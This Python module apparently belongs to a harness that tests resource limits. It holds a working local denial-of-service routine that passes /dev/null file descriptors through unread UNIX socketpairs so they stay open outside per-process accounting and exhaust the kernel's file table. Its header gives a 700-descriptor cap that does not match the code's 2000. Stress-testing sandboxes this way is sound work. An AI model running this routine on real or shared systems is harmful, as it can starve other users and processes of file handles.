# attack: Sends descriptors through a socket that nobody reads and closes them: they stay open and count for nobody.
# hurts: Uses up the kernel's table of files past the limit on open ones.
# at most: 700 descriptors
# ends: returns or error or crash
import contextlib
import os
import socket

from _raw import took

MOST = 2000
EACH = 200


def attack(target):
    total, why, pairs = 0, "", []
    null = os.open("/dev/null", os.O_RDONLY)
    while total < MOST:
        try:
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            pairs.append(pair)
            pair[0].setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while total < MOST:
                    socket.send_fds(pair[0], [b"x"], [null] * EACH)
                    total += EACH
        except OSError as error:
            why = str(error)
            break
    return [took(total), why]
